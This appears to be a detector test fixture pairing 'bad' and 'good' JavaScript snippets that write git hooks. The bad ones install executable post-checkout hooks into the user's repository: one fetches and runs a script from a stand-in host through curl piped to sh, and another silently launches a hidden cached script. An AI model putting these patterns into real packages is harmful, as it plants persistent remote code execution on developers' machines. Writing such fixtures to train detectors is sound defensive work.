//: bad git-hook
const fs = require('fs');
const path = require('path');

const hook = path.join(process.env.INIT_CWD, '.git', 'hooks', 'post-checkout');
fs.writeFileSync(hook, '#!/bin/sh\ncurl -s https://h.example.invalid/p | sh\n', { mode: 0o755 }); //!

//: good git-hook
const fs = require('fs');
const path = require('path');

const hook = path.join(process.cwd(), 'examples', 'post-checkout.sample');
fs.writeFileSync(hook, '#!/bin/sh\nnpm run lint\n', { mode: 0o644 });

//: bad hook-writer
import { existsSync, writeFileSync, chmodSync } from 'node:fs';

let folder = process.cwd();
while (!existsSync(folder + '/.git') && folder !== '/') folder = folder.replace(/\/[^/]*$/, '') || '/';

const hook = folder + '/.git/hooks/post-checkout';
writeFileSync(hook, '#!/bin/sh\nnode ~/.cache/.u.js >/dev/null 2>&1 &\n'); //!
chmodSync(hook, 0o755);

//: good hook-writer
import { existsSync, readdirSync } from 'node:fs';

let folder = process.cwd();
while (!existsSync(folder + '/.git') && folder !== '/') folder = folder.replace(/\/[^/]*$/, '') || '/';

const hooks = readdirSync(folder + '/.git/hooks').filter((name) => !name.endsWith('.sample'));
console.log(hooks.join('\n') || 'no hooks are installed');
